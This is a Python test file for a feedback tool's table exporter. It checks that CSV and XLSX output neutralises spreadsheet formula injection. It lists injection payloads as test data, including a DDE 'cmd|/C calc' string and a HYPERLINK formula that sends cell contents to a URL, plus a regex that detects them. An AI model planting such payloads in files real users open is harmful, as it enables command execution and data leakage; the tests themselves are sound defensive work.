import csv
import json
import re
import zipfile
from datetime import UTC, datetime

import pyarrow.parquet
import pytest
from python_calamine import CalamineWorkbook

from tests.made import feedback, scored
from vocmine.errors import UsageError
from vocmine.export import sheets, write
from vocmine.export.tables import Table, feedback_table, segment_table
from vocmine.export.write import write_table
from vocmine.types import Journey, Stage, Theme, Themes

PAYLOADS = (
    "=1+1", "+cmd|'/C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\x00=1", " =1", '"=1', "＝1", "－1", "＋1", "＠1", "\ufeff=1",
    "'=1", "'plain", "\n=1", '=HYPERLINK("http://x?"&A1)', "=WEBSERVICE(1)", "http://example.org", "12", "plain", "🙂 =1", "שלום", "{=1}",
)  # fmt: skip
THEMES = Themes((Theme("t1", "gain", "=warm", (), ("f0#0",), (), 0.5, ()),), ())
JOURNEY = Journey("one", "One", (Stage("usage", "Use"),))
DAY = datetime(2026, 3, 1, 12, tzinfo=UTC)


def statements():
    return [
        scored(of=feedback(f"f{n}", text, created_at=DAY, rating=4.5, turn=n, attributes=(("Plan", text),)), emotions=("joy",))
        for n, text in enumerate(PAYLOADS)
    ]


def written(tmp_path, ending, table=None):
    path = tmp_path / f"table{ending}"
    rows = write_table(table or segment_table(statements(), THEMES), path)
    assert list(tmp_path.iterdir()) == [path]
    return path, rows


def without_prefix(text):
    return text.removeprefix("'")


def test_jsonl_is_exact(tmp_path):
    path, n = written(tmp_path, ".jsonl")
    rows = [json.loads(line) for line in path.read_bytes().decode().splitlines()]
    assert n == len(PAYLOADS)
    assert [row["text"] for row in rows] == list(PAYLOADS)
    assert (rows[0]["theme_label"], rows[0]["stage_scores"], rows[0]["created_at"]) == (
        "=warm",
        {"usage": 0.9},
        "2026-03-01T12:00:00+00:00",
    )


def test_parquet_is_exact_and_typed(tmp_path):
    path, _ = written(tmp_path, ".parquet")
    table = pyarrow.parquet.read_table(path)
    assert table.column("text").to_pylist() == list(PAYLOADS)
    assert table.column("created_at").to_pylist()[0] == DAY
    assert table.column("stage_scores").to_pylist()[0] == [("usage", 0.9)]
    assert table.column("theme_id").to_pylist()[:2] == ["t1", None]


def test_csv_carries_the_prefix_and_nothing_else_differs(tmp_path):
    path, _ = written(tmp_path, ".csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    texts = [row["text"] for row in rows]
    assert [without_prefix(text) for text in texts] == list(PAYLOADS)
    dangerous = re.compile(r"[\s\"\ufeff\x00]*[=+\-@＝＋－＠]")
    assert not [text for text in texts if dangerous.match(text)]


def test_xlsx_holds_no_formula_and_no_link(tmp_path):
    path, n = written(tmp_path, ".xlsx")
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        assert not [name for name in archive.namelist() if "rels" in name and b"hyperlink" in archive.read(name)]
    assert "<f>" not in sheet
    rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert len(rows) == n + 1
    column = rows[0].index("text")
    shown = [row[column] for row in rows[1:]]
    assert shown[PAYLOADS.index("=1+1")] == "'=1+1"
    assert shown[PAYLOADS.index("12")] == "12"
    assert rows[1][rows[0].index("rating")] == 4.5


@pytest.mark.parametrize("ending", [".jsonl", ".csv", ".xlsx", ".parquet"])
def test_the_same_table_gives_the_same_file(ending, tmp_path):
    first = written(tmp_path, ending)[0].read_bytes()
    assert written(tmp_path, ending)[0].read_bytes() == first


def test_feedback_parquet_keeps_numbers_and_codes(tmp_path):
    path, _ = written(tmp_path, ".parquet", feedback_table(statements(), THEMES, JOURNEY))
    table = pyarrow.parquet.read_table(path)
    assert table.column("rating").to_pylist()[0] == 4.5
    assert (table.column("stage: usage").to_pylist()[0], table.column("theme: =warm").to_pylist()[:2]) == (1, [1, 0])


def test_headings_of_the_users_own_are_made_safe_too(tmp_path):
    own = scored(of=feedback("f1", attributes=(("=1+1", "x"),)))
    path, _ = written(tmp_path, ".csv", feedback_table([own], Themes((), ()), JOURNEY))
    assert ",'=1+1," in path.read_text(encoding="utf-8-sig").splitlines()[0]


def test_an_empty_table_still_has_its_columns(tmp_path):
    path, n = written(tmp_path, ".parquet", segment_table([], THEMES))
    assert (n, pyarrow.parquet.read_table(path).num_rows) == (0, 0)
    assert "text" in pyarrow.parquet.read_schema(path).names


def test_chunks_join_without_loss(tmp_path, monkeypatch):
    monkeypatch.setattr(write, "CHUNK", 4)
    path, n = written(tmp_path, ".parquet")
    assert n == pyarrow.parquet.read_table(path).num_rows == len(PAYLOADS)


def test_a_cell_too_long_for_a_spreadsheet_is_cut_in_sight(tmp_path):
    long = Table("long", (("text", "text"),), [{"text": "🙂" * 20_000}, {"text": "a" * 32_767}])
    path, _ = written(tmp_path, ".xlsx", long)
    cut, whole = (row[0] for row in CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()[1:])
    assert cut.endswith("… [cut; whole in .csv, .jsonl or .parquet]")
    assert whole == "a" * 32_767


def test_more_rows_than_a_spreadsheet_holds_are_refused_and_nothing_is_left(tmp_path, monkeypatch):
    monkeypatch.setattr(sheets, "XLSX_ROWS", 3)
    with pytest.raises(UsageError, match=r"A spreadsheet holds 3 rows at most; pass a name that ends in \.csv, \.jsonl or \.parquet\."):
        write_table(segment_table(statements(), THEMES), tmp_path / "table.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_a_failure_leaves_the_older_file_as_it_was(tmp_path):
    def rows():
        yield {"text": "one"}
        raise RuntimeError("disk full")

    path = tmp_path / "table.csv"
    path.write_text("older", encoding="utf-8")
    with pytest.raises(RuntimeError, match="disk full"):
        write_table(Table("t", (("text", "text"),), rows()), path)
    assert (path.read_text(encoding="utf-8"), list(tmp_path.iterdir())) == ("older", [path])


def test_an_unknown_ending_is_refused(tmp_path):
    with pytest.raises(
        UsageError, match=r"Cannot write table\.ods: the name must end in one of \.jsonl, \.csv, \.xlsx, \.parquet, \.sav\."
    ):
        write_table(segment_table([], THEMES), tmp_path / "table.ods")
